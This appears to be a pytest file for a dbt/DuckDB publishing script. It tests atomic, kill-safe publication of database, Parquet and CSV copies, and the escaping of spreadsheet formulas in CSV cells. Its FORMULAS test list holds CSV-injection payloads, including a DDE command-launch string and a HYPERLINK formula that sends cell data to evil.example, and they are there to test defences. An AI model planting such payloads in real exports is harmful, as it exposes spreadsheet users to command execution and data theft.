"""The published copy: never locked, never half, never of a build that was not whole; in CSV without formulas."""

from __future__ import annotations

import csv
import hashlib
import itertools
import os
import shutil
import signal
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest
from dbt_common.exceptions import DbtRuntimeError
from harness import PROJECT, WITHOUT_TESTS, Row, dbt, must_pass, read_raw, started_dbt, write_raw
from readers import Reader, state_of

from scripts.publish import prepare, put_file_in_place, put_folder_in_place

BUILD = ("build", *WITHOUT_TESTS)


def bytes_of(path: Path) -> dict[str, str]:
    """Hash of a file, or of each file of a folder."""
    files = [path] if path.is_file() else sorted(path.iterdir())
    return {file.name: hashlib.sha256(file.read_bytes()).hexdigest() for file in files}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the demo's raw files, built and published once."""
    folder = tmp_path_factory.mktemp("publish")
    shutil.copytree(PROJECT / "seeds/demo", folder / "raw")
    must_pass(dbt(*BUILD, folder=folder, variables=to_file(folder)))
    return folder


def to_file(folder: Path) -> Row:
    """Vars of a build of the folder's raw files that publishes a database file."""
    return {"raw_path": str(folder / "raw"), "publish_path": str(folder / "bi/copy.duckdb")}


def change_deals(folder: Path, digit: str) -> None:
    """Changes what every build after it has to say about revenue: a digit before every amount."""
    raw = read_raw(folder / "raw")
    for deal in raw["deals"]:
        if deal["amount"] and deal["amount"][0].isdigit():
            deal["amount"] = digit + deal["amount"]
    write_raw({"deals": raw["deals"]}, folder / "raw")


def test_readers_see_whole_builds_only(folder: Path, tmp_path: Path) -> None:
    """While it is built again and again with other data; a failed and a selective build publish nothing and say so."""
    copy, database, variables = folder / "bi/copy.duckdb", folder / "tributary.duckdb", to_file(folder)
    published = [state_of(database)]
    with Reader(copy, tmp_path) as reader, duckdb.connect(copy, read_only=True) as held:
        change_deals(folder, "3")
        must_pass(dbt(*BUILD, folder=folder, variables=variables))
        published.append(state_of(database))

        change_deals(folder, "5")
        (folder / "raw/owners.csv").write_text("owner_id,owner_name\n" + "o,x\n" * 99, encoding="utf-8")
        failed = dbt(*BUILD, folder=folder, variables=variables)
        assert failed.returncode != 0
        assert f"Nothing was published to {copy}: " in failed.stdout
        assert "the first of them quarantine" in failed.stdout
        selective = must_pass(dbt(*BUILD, "--select", "path:models/marts/core", folder=folder, variables=variables))
        assert "models were not in this run. What was published before stays." in selective.stdout
        refused = dbt("run-operation", "publish", folder=folder, variables=variables)
        assert refused.returncode != 0
        assert "The last build failed, was of a selection, or has never been" in refused.stdout

        shutil.copy(PROJECT / "seeds/demo/owners.csv", folder / "raw")
        must_pass(dbt(*BUILD, folder=folder, variables=variables))
        published.append(state_of(database))

        assert reader.states() == published
        assert len({attributed for _, attributed, _ in published}) == 3
        # Who opened the first one goes on reading it, also what it had not read before.
        assert held.execute("select build_id from publication").fetchone() == (published[0][0],)
        rows = held.execute("select count(*), count(explanation) from explain_attribution").fetchone()
        assert rows == (published[0][2],) * 2


def test_the_copy_is_all_of_the_marts(folder: Path) -> None:
    """Every mart, cell by cell, by the file alone under any name: nothing in it refers to the database or to raw files."""
    moved = shutil.copy(folder / "bi/copy.duckdb", folder / "elsewhere.duckdb")
    with duckdb.connect() as connection:
        connection.execute(
            f"attach '{folder / 'tributary.duckdb'}' as built (read_only); attach '{moved}' as copy (read_only)"
        )
        names = "select table_name from duckdb_tables() where database_name = '{0}' and schema_name = 'main' union all "
        names += (
            "select view_name from duckdb_views() where database_name = '{0}' and schema_name = 'main' and not internal"
        )
        marts = {name for (name,) in connection.execute(names.format("built")).fetchall()}
        assert {name for (name,) in connection.execute(names.format("copy")).fetchall()} == marts | {"publication"}
        assert len(marts) > 20
        for mart in marts:
            difference = f"(from built.main.{mart} except all from copy.main.{mart})"
            difference += f" union all (from copy.main.{mart} except all from built.main.{mart})"
            assert connection.execute(f"select count(*) from ({difference})").fetchone() == (0,), mart
        # Stored once: what reads nothing but marts.
        views = connection.execute("select view_name from duckdb_views() where database_name = 'copy' and not internal")
        assert {"fct_attribution", "rpt_attribution"} <= {name for (name,) in views.fetchall()}


@pytest.mark.parametrize("format", ["duckdb", "parquet"])
def test_a_killed_publication_leaves_the_one_before(format: str, folder: Path, tmp_path: Path) -> None:
    """SIGKILL while the copy is written, at several moments; the next one goes through and clears up."""
    variables = to_file(folder)
    if format != "duckdb":
        variables |= {"publish_path": str(folder / "files"), "publish_format": format}
    path = Path(variables["publish_path"])
    place = path.parent if format == "duckdb" else path
    must_pass(dbt("run-operation", "publish", folder=folder, variables=variables))
    current = path if format == "duckdb" else path / "current"
    before = bytes_of(current)
    known, killed = set(), 0
    with Reader(current, tmp_path) as reader:
        for delay in (0, 0.1, 0.25, 0.4):
            process = started_dbt(
                "run-operation", "publish", folder=folder, variables=variables, stdout=subprocess.DEVNULL
            )
            while process.poll() is None and set(place.glob("*.next-*")) <= known:
                time.sleep(0.005)
            time.sleep(delay)
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
            known = set(place.glob("*.next-*"))
            killed += bool(known)
            if known:
                assert bytes_of(current) == before
        must_pass(dbt("run-operation", "publish", folder=folder, variables=variables))
        assert len({state[0] for state in reader.states()}) == 1
    assert killed > 1
    assert list(place.glob("*.next-*")) == []
    if format != "duckdb":
        assert len(list(path.glob("v*"))) == 2


def publish_folder(path: Path, text: str) -> None:
    """Publishes two files with a text."""
    following = path / ".next-x"
    prepare(path, following, Path("other.duckdb"), False)
    for name in ("a.csv", "b.csv"):
        (following / name).write_text(text, encoding="utf-8")
    put_folder_in_place(path, following)


def killed_at_step(path: Path, number: int) -> bool:
    """Publishes a folder in a process that is killed before its n-th step that changes something; False when it came through."""
    process = os.fork()
    if process:
        return os.waitpid(process, 0)[1] == signal.SIGKILL
    steps = itertools.count()

    def counted(step: Callable) -> Callable:
        def call(*arguments: object, **named: object) -> object:
            if next(steps) == number:
                os.kill(os.getpid(), signal.SIGKILL)
            return step(*arguments, **named)

        return call

    for module, name in (
        (os, "rename"),
        (os, "replace"),
        (os, "fsync"),
        (shutil, "rmtree"),
        (Path, "mkdir"),
        (Path, "symlink_to"),
    ):
        setattr(module, name, counted(getattr(module, name)))
    publish_folder(path, "new")
    os._exit(0)


def test_a_folder_is_old_or_new_wherever_the_process_stops(tmp_path: Path) -> None:
    """At every step; the version before stays for those who read it, and the next publication leaves these two alone."""
    for step in itertools.count():
        path = tmp_path / str(step)
        for text in ("older", "old"):
            publish_folder(path, text)
        was_killed = killed_at_step(path, step)
        shown = {file.read_text(encoding="utf-8") for file in (path / "current").iterdir()}
        assert shown in ({"old"}, {"new"})
        (kept,) = shown
        publish_folder(path, "next")
        assert {(folder / "a.csv").read_text(encoding="utf-8") for folder in path.iterdir()} == {kept, "next"}
        assert len([entry for entry in path.iterdir() if not entry.is_symlink()]) == 2
        assert list(path.glob(".next-*")) == []
        if not was_killed:
            break
    assert step > 6
    assert kept == "new"


def test_nothing_but_a_copy_is_replaced(tmp_path: Path) -> None:
    """A path that is the database itself, another kind of file or a folder is refused, and untouched."""
    database, note = tmp_path / "tributary.duckdb", tmp_path / "note.txt"
    duckdb.connect(database).close()
    note.write_text("keep", encoding="utf-8")
    for path in (database, note, tmp_path):
        with pytest.raises(DbtRuntimeError, match="give another path"):
            prepare(path, path.with_name(path.name + ".next-1"), database, True)
    assert note.read_text(encoding="utf-8") == "keep"
    unlike = tmp_path / "[a]*.duckdb"
    (tmp_path / "ab.duckdb.next-1").touch()
    (tmp_path / "[a]*.duckdb.next-1").touch()
    prepare(unlike, tmp_path / "[a]*.duckdb.next-2", database, True)
    assert {path.name for path in tmp_path.glob("*.next-*")} == {"ab.duckdb.next-1"}


def test_a_copy_that_does_not_stand_alone_is_not_published(tmp_path: Path) -> None:
    """A view that reads another database would work here and for no reader."""
    path, following = tmp_path / "copy.duckdb", tmp_path / "copy.duckdb.next-1"
    with duckdb.connect() as connection:
        connection.execute(f"create table here as select 1 as a; attach '{following}' as copy")
        connection.execute("create view copy.main.there as from memory.main.here; detach copy")
    with pytest.raises(duckdb.Error):
        put_file_in_place(path, following)
    assert not path.exists()


def test_a_log_that_someone_wrote_beside_the_copy_goes(tmp_path: Path) -> None:
    """A reader that opened the copy to write and died leaves a .wal, which is not of the next one."""
    path, following = tmp_path / "copy.duckdb", tmp_path / "copy.duckdb.next-1"
    for file, number in ((path, 1), (following, 2)):
        with duckdb.connect(file) as connection:
            connection.execute(f"create table t as select {number} as a")
    Path(f"{path}.wal").write_bytes(b"of the file before")
    put_file_in_place(path, following)
    with duckdb.connect(path, read_only=True) as connection:
        assert connection.execute("from t").fetchall() == [(2,)]


# Begins like a formula for some spreadsheet (OWASP, "CSV Injection").
FORMULAS = [
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", "\ttab", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    '"=1+1', "'=1+1", "''=1", '"  =1+1', "' \t@x", "\u00a0=1", "\u3000＝1", "\u200b=1", "\ufeff=1", "`=1", "“=1+1”", "-", "=", "+49 30 1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=1\n=2", "\u0000=1",
]  # fmt: skip
HARMLESS = [
    "Renewal", "a=b", "1-2", "1+1", "x@y", "(=1)", "#N/A", "'quoted'", '"quoted" = no', "|=1", "…-", "–1", "Ünïcode", "a\n=b", ";=1", "0",
    "'", "'tis", "_=1", "%=1", "a, b", "\\=1", '","=1',
]  # fmt: skip


def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path) -> None:
    """Texts that begin like one get an apostrophe, and only those; numbers and dates stay what they are."""
    texts, dangerous = [*FORMULAS, *HARMLESS], {f"d{number}" for number in range(len(FORMULAS))}
    (tmp_path / "raw").mkdir()
    with (
        duckdb.connect() as connection
    ):  # Parquet: what Tributary reads as CSV has no line's end of its own kind, nor nulls
        connection.execute("""
            create table deals (deal_id varchar, deal_name varchar, owner_id varchar, created_at date, stage_id varchar);
            insert into deals values ('d', 'x', '=1', '2026-01-01', '@s')""")
        rows = [(f"d{number}", text) for number, text in enumerate(texts)]
        connection.executemany("insert into deals values (?, ?, null, '2026-01-01', 'open')", rows)
        connection.execute(f"copy deals to '{tmp_path / 'raw/deals.parquet'}'")
    write_raw(
        {
            "contacts": [{"contact_id": "=c", "created_at": "2026-01-01"}],
            "campaigns": [{"campaign_id": "+c", "campaign_name": "=n", "budget": "5", "currency_code": "USD"}],
            "campaign_spend": [
                {"campaign_id": "+c", "spend_date": "2026-01-01", "amount": "7.5", "currency_code": "USD"}
            ],
        },
        tmp_path / "raw",
    )
    files = {"publish_path": str(tmp_path / "bi"), "publish_format": "csv", "max_quarantine_share": 1}
    must_pass(dbt(*BUILD, folder=tmp_path, variables=files | {"raw_path": str(tmp_path / "raw")}))

    def published(mart: str) -> list[dict[str, str]]:
        with (tmp_path / f"bi/current/{mart}.csv").open(encoding="utf-8", newline="") as file:
            return list(csv.DictReader(file))

    names = {row["deal_id"]: row["deal_name"] for row in published("dim_deals")}
    # Staging strips spaces.
    stripped = {f"d{number}": text.strip(" \u00a0\u3000") for number, text in enumerate(texts)}
    expected = {deal: ("'" if deal in dangerous else "") + text for deal, text in stripped.items()}
    assert {deal: name for deal, name in names.items() if deal != "d"} == expected
    (campaign,) = published("rpt_campaign_performance")
    assert (campaign["campaign_id"], campaign["campaign_name"]) == ("'+c", "'=n")
    assert (campaign["budget"], campaign["spend"], campaign["remaining_budget"]) == ("5.0000", "7.5000", "-2.5000")
    (other,) = (row for row in published("dim_deals") if row["deal_id"] == "d")
    assert (other["owner_id"], other["stage_id"]) == ("'=1", "'@s")
    for file in (tmp_path / "bi/current").iterdir():
        for row in published(file.stem):
            for column, cell in row.items():
                bare = cell.lstrip(' \u00a0"')
                assert not bare.startswith(tuple("=+@＝＋－＠\t\r\n")), (file.name, column, cell)
                assert not bare.startswith("-") or float(bare), (file.name, column, cell)
